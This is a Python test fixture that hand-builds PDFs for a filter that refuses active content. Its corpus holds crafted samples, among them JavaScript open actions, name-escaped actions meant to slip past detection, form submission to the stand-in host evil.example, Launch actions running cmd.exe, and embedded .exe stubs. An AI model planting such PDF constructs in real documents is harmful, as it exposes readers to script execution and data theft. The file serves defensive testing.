"""Crafted PDFs for the active-content checks, written byte by byte: a classic cross-reference table, or a
PDF 1.5 cross-reference stream whose objects live in a compressed object stream (pypdf writes no object
streams, so they are built here)."""
import struct
import zlib

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s >>"


def _objects(catalog_extra=b"", page_extra=b"", extra=()):
    """The objects (numbered from 1): catalog, pages, page, then ``extra`` (bytes, or (dict bytes, stream))."""
    return [b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            PAGE % page_extra, *extra]


def _body(num, obj):
    if isinstance(obj, tuple):
        head, data = obj
        return b"%d 0 obj\n%s\nstream\n%s\nendstream\nendobj\n" % (
            num, head.replace(b">>", b" /Length %d >>" % len(data), 1) if b"/Length" not in head else head, data)
    return b"%d 0 obj\n%s\nendobj\n" % (num, obj)


def classic(catalog_extra=b"", page_extra=b"", extra=()):
    """A PDF 1.7 with a classic xref table."""
    objs = _objects(catalog_extra, page_extra, extra)
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, obj in enumerate(objs, 1):
        offsets.append(len(out))
        out += _body(i, obj)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return bytes(out)


def object_stream(catalog_extra=b"", page_extra=b"", extra=()):
    """A PDF 1.5 whose objects (catalog, pages, page and the plain ``extra`` ones) sit in one Flate-compressed
    object stream, indexed by a cross-reference stream (no classic xref table anywhere)."""
    objs = _objects(catalog_extra, page_extra, extra)
    assert not any(isinstance(o, tuple) for o in objs), "streams cannot live in an object stream"
    n = len(objs)
    stm_num, xref_num = n + 1, n + 2
    header, body = [], bytearray()
    for i, obj in enumerate(objs, 1):
        header.append(b"%d %d" % (i, len(body)))
        body += obj + b"\n"
    head = b" ".join(header) + b"\n"
    data = zlib.compress(head + bytes(body))
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    stm_offset = len(out)
    out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        stm_num, n, len(head), len(data)) + data + b"\nendstream\nendobj\n"
    xref_offset = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 2, stm_num, i) for i in range(n)]
    rows += [struct.pack(">BIH", 1, stm_offset, 0), struct.pack(">BIH", 1, xref_offset, 0)]
    xdata = zlib.compress(b"".join(rows))
    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\n"
            b"stream\n" % (xref_num, xref_num + 1, len(xdata))) + xdata + b"\nendstream\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


JS = b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"


def encrypted(user_password="rahasia", javascript=False):
    """A blank page encrypted by pypdf (AES-256). With a user password nothing in it can be read, so nothing can
    be checked; with "" a reader opens it without asking, so it is decrypted and checked (``javascript``: a script
    run when it opens)."""
    import io

    from pypdf import PdfWriter
    from pypdf.actions import JavaScript

    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    if javascript:
        writer.add_open_action(JavaScript("app.alert(1);"))
    writer.encrypt(user_password=user_password, owner_password="pemilik", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# name -> (bytes, what the refusal names); every one must be refused with 422.
CORPUS = {
    "javascript-open-action": (classic(JS), "JavaScript"),
    "escaped-name-javascript": (classic(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"), "JavaScript"),
    "javascript-name-tree": (classic(b"/Names << /JavaScript 4 0 R >>",
                                     extra=[b"<< /Names [(a) 5 0 R] >>", b"<< /S /JavaScript /JS (x) >>"]),
                             "JavaScript"),
    "page-additional-action": (classic(page_extra=b"/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>"), "sendiri"),
    "uri-open-action": (classic(b"/OpenAction << /S /URI /URI (http://evil.example/) >>"), "sendiri"),
    "submitform-open-action": (classic(b"/OpenAction 4 0 R", extra=[
        b"<< /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> >>"]), "mengirim data"),
    "launch-link": (classic(page_extra=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
                                       b"/A << /S /Launch /F (cmd.exe) >> >>]"), "program"),
    "escaped-launch": (classic(page_extra=b"/Annots [4 0 R]", extra=[
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /L#61unch /F (cmd.exe) >> >>"]), "program"),
    "embedded-files": (classic(b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>", extra=[
        b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
        (b"<< /Type /EmbeddedFile >>", b"MZ")]), "disematkan"),
    "file-attachment-annotation": (classic(page_extra=b"/Annots [<< /Type /Annot /Subtype /FileAttachment "
                                                     b"/Rect [0 0 9 9] /FS 4 0 R >>]",
                                           extra=[b"<< /Type /Filespec /F (a.txt) >>"]), "disematkan"),
    "richmedia": (classic(page_extra=b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]"),
                  "multimedia"),
    "xfa": (classic(b"/AcroForm << /Fields [] /XFA 4 0 R >>", extra=[(b"<< >>", b"<xdp:xdp/>")]), "XFA"),
    "object-stream-javascript": (object_stream(JS), "JavaScript"),
    "object-stream-escaped-uri": (object_stream(b"/OpenAction 4 0 R", extra=[
        b"<< /S /U#52I /URI (http://evil.example/) >>"]), "sendiri"),
    "object-stream-submitform-annotation": (object_stream(page_extra=b"/Annots [4 0 R]", extra=[
        b"<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A << /S /SubmitForm /F (http://e.example/) >> >>"]),
        "mengirim data"),
    "gotor-link": (classic(page_extra=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
                                     b"/A << /S /GoToR /F (lain.pdf) /D [0 /Fit] >> >>]"), "membuka berkas"),
    "escaped-importdata-open-action": (classic(b"/OpenAction << /S /Import#44ata /F (data.fdf) >>"),
                                       "membuka berkas"),
    "movie-annotation": (classic(page_extra=b"/Annots [<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] "
                                             b"/Movie << /F (film.avi) >> >>]"), "multimedia"),
    "object-stream-3d-annotation": (object_stream(page_extra=b"/Annots [4 0 R]", extra=[
        b"<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] >>"]), "multimedia"),
    "encrypted-with-a-password": (encrypted(), "rusak"),
    "encrypted-without-a-password-javascript": (encrypted("", javascript=True), "JavaScript"),
    "file-attachment-with-embedded-file": (classic(page_extra=b"/Annots [5 0 R]", extra=[
        b"<< /Type /Filespec /F (a.exe) /UF (a.exe) /EF << /F 6 0 R >> >>",
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /Name /PushPin /FS 4 0 R >>",
        (b"<< >>", b"MZ")]), "disematkan"),
    # PDF 2.0 associated files: no /EmbeddedFiles tree, no annotation, a file stream without /Type; the second
    # without /Type /Filespec either (readers do not insist on it): only /EF gives them away.
    "associated-embedded-file": (classic(b"/AF [4 0 R]", extra=[
        b"<< /Type /Filespec /F (a.exe) /AFRelationship /Data /EF << /F 5 0 R >> >>", (b"<< >>", b"MZ")]),
        "disematkan"),
    "untyped-associated-embedded-file": (classic(b"/AF [4 0 R]", extra=[
        b"<< /F (a.exe) /AFRelationship /Data /EF << /F 5 0 R >> >>", (b"<< >>", b"MZ")]), "disematkan"),
    "unparseable": (b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R\nthis is not a pdf", "rusak"),
    "truncated": (classic()[:120], "rusak"),
}

# Clean files that must be accepted: no active content, or only what a reader never runs by itself.
CLEAN = {
    "classic": classic(),
    "object-stream": object_stream(),
    "link-to-web-page": classic(page_extra=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
                                          b"/A << /S /URI /URI (https://www.youtube.com/watch?v=x) >> >>]"),
    "open-at-page": classic(b"/OpenAction [3 0 R /Fit]"),
    "open-goto-action": object_stream(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
}
